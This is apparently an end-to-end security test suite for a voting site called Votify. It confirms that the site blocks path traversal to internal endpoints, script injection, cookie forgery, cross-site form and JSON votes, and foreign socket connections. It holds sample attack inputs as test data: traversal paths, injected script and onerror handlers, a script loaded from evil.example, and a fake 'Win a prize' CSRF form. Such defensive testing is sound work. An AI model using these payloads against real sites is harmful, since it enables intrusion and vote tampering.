"""What nobody may do to Votify from outside, and what a browser lets no other page do."""

from __future__ import annotations

import http.client
from urllib.parse import urlsplit

import httpx2 as httpx
import pytest
from playwright.sync_api import Browser, Route, expect

from tests.e2e.site import HTML, JSON, POLL, Site
from tests.e2e.test_contract import assert_problem
from tests.e2e.windows import Windows

pytestmark = pytest.mark.service

PAGES = ("/", "/vote/", f"/vote/{POLL}", "/result/", f"/result/{POLL}")
ERRORS = ("/nowhere", "/vote/no-such-poll", "/vote/receipt/nonsense", "/result/no-such-poll")
POLICY = {"default-src 'none'", "base-uri 'none'", "frame-ancestors 'none'"}


def raw(site: Site, path: str) -> tuple[int, str]:
    """Ask for a path exactly as it is written; httpx would tidy it up."""
    connection = http.client.HTTPConnection(urlsplit(site.url).netloc, timeout=10)
    try:
        connection.request("GET", path, headers=JSON)
        answer = connection.getresponse()
        return answer.status, answer.read().decode("utf-8", "replace")
    finally:
        connection.close()


@pytest.mark.parametrize("door", ["readyz", "metrics", "healthz"])
@pytest.mark.parametrize(
    "path",
    [
        "/{}",
        "/vote/{}",
        "/result/{}",
        "/result/socket.io/../../{}",
        "/vote/../{}",
        "/vote/%2e%2e/{}",
        "/vote/..%2f{}",
        "/vote/..;/{}",
        "//{}",
        "/{}/",
        "/{}/../vote",
    ],
)
def test_it_keeps_the_services_own_doors_shut(site: Site, path: str, door: str) -> None:
    """What is for who runs the services does not go through the router, however it is written."""
    status, said = raw(site, path.format(door))

    # The router has a /healthz of its own.
    assert status == 404 or (door, status, said) == ("healthz", 200, "ok\n")
    assert "votify_" not in said
    assert "redis" not in said


@pytest.mark.parametrize("path", [*PAGES, *ERRORS])
def test_it_lets_no_foreign_script_into_a_page(site: Site, path: str) -> None:
    """Every page, errors included, allows its own files and nothing inline, and no frame."""
    answer = site.ask(path, headers=HTML, follow_redirects=True)

    assert answer.headers["content-type"].startswith("text/html")
    policy = answer.headers["content-security-policy"]
    assert set(map(str.strip, policy.split(";"))) >= POLICY
    assert "unsafe" not in policy
    assert "*" not in policy
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert answer.headers["referrer-policy"] == "same-origin"
    assert answer.headers["cache-control"] == "no-store"
    assert answer.status_code == (200 if path in PAGES else 404)


@pytest.mark.browser
def test_it_gives_the_browser_nothing_to_complain_about(people: Windows, site: Site) -> None:
    """No error, no blocked file, no request to anywhere else: on any page."""
    page = people.open("/")
    for path in (*PAGES, f"/vote/receipt/{site.accept()}"):
        page.goto(path)
        page.wait_for_load_state()
        expect(page.get_by_role("heading", level=1)).to_be_visible()
    page.goto(f"/result/{POLL}")
    expect(page.locator("[data-live]")).to_have_text("Live")
    assert people.complaints == []


@pytest.mark.browser
@pytest.mark.parametrize("path", [f"/vote/{POLL}", f"/result/{POLL}"])
def test_it_runs_no_script_that_somebody_smuggles_in(browser: Browser, url: str, path: str) -> None:
    """The browser holds to the policy: inline scripts, handlers and foreign files stay out."""
    page = browser.new_page()
    said: list[str] = []
    page.on("console", lambda message: said.append(message.text))
    page.goto(f"{url}{path}")
    page.evaluate(
        """() => {
          const smuggle = (html) => {
            const part = document.createRange().createContextualFragment(html);
            document.body.append(part);
          };
          smuggle("<script>window.smuggled = 1</script>");
          smuggle("<img src='/nowhere.png' onerror='window.smuggled = 2'>");
          smuggle("<script src='http://evil.example/x.js'></script>");
          return fetch("http://evil.example/").catch(() => null);
        }"""
    )

    expect(page.locator("img[onerror]")).to_be_attached()
    blocked = [text for text in said if "Content Security Policy" in text]
    assert len(blocked) >= 4, said
    assert page.evaluate("window.smuggled") is None
    page.close()


@pytest.mark.parametrize("scheme", ["http", "https"])
def test_it_hides_the_cookie_from_scripts_and_other_sites(site: Site, scheme: str) -> None:
    """The cookie is out of reach for scripts, stays here, and over HTTPS goes by nothing else."""
    front = {"X-Forwarded-Proto": scheme}
    for answer in (site.ask(f"/vote/{POLL}", headers={**HTML, **front}), site.cast(headers=front)):
        name, *attributes = answer.headers["set-cookie"].split("; ")
        assert name.startswith("voter=" if scheme == "http" else "__Host-voter=")
        assert {"HttpOnly", "SameSite=Lax", "Path=/"} <= set(attributes)
        assert ("Secure" in attributes) == (scheme == "https")


@pytest.mark.browser
def test_it_gives_the_browser_a_cookie_that_no_script_can_read(people: Windows) -> None:
    """What the header says is what the browser does."""
    page = people.open(f"/vote/{POLL}")
    (cookie,) = page.context.cookies()

    assert (cookie["name"], cookie["httpOnly"], cookie["sameSite"]) == ("voter", True, "Lax")
    assert page.evaluate("document.cookie") == ""


def test_it_takes_a_forged_cookie_for_none(site: Site) -> None:
    """Whoever makes up a cookie is nobody, and certainly not somebody else."""
    genuine = site.cast().headers["set-cookie"].partition(";")[0].partition("=")[2]
    voter, _, signature = genuine.rpartition(".")
    for forged in ("me", f"me.{signature}", f"{voter}.{signature[::-1]}"):
        with httpx.Client(base_url=site.url, cookies={"voter": forged}) as somebody:
            answer = somebody.post("/vote", json={"pollId": POLL, "optionId": 1})
        assert answer.status_code == 202
        assert answer.headers["set-cookie"].startswith("voter=")


FOREIGN = f"""<!doctype html><title>Evil</title>
<form method="post" action="{{url}}/vote/{POLL}">
<input name="option" value="1"><button>Win a prize</button></form>"""


@pytest.mark.browser
def test_it_refuses_a_vote_that_another_site_sends(
    browser: Browser, site: Site, people: Windows
) -> None:
    """A form elsewhere that votes in a visitor's name is refused by a page that says so."""
    before = site.settled()["ballots"]
    people.forgive_outages = True
    page = people.open(f"/vote/{POLL}")

    def serve(route: Route) -> None:
        route.fulfill(body=FOREIGN.format(url=site.url), content_type="text/html")

    page.context.route("http://evil.example/", serve)
    page.goto("http://evil.example/")
    page.get_by_role("button").click()

    expect(page.get_by_role("heading", level=1)).to_have_text("This vote was not accepted")
    assert site.settled()["ballots"] == before
    people.complaints.remove("asked http://evil.example/")


@pytest.mark.parametrize(
    "headers",
    [
        {"Origin": "http://evil.example"},
        {"Origin": "null"},
        {"Sec-Fetch-Site": "cross-site"},
        {"Sec-Fetch-Site": "same-site"},
    ],
    ids=str,
)
def test_it_refuses_json_that_another_site_sends(site: Site, headers: dict[str, str]) -> None:
    """A script elsewhere has no more success than a form."""
    assert_problem(site.cast(headers=headers), 403, "cross_site")
    form = site.ask(f"/vote/{POLL}", method="POST", data={"option": "1"}, headers=HTML | headers)
    assert form.status_code == 403
    assert "location" not in form.headers


@pytest.mark.parametrize("path", ["/result/socket.io/", "/socket.io/"])
def test_it_lets_no_other_site_listen(site: Site, path: str) -> None:
    """A page elsewhere can open no socket in a visitor's name."""
    address = f"{path}?EIO=4&transport=polling"
    assert site.ask(address, headers={"Origin": "http://evil.example"}).status_code == 400
    own = site.ask(address, headers={"Origin": site.url})
    assert own.status_code == 200
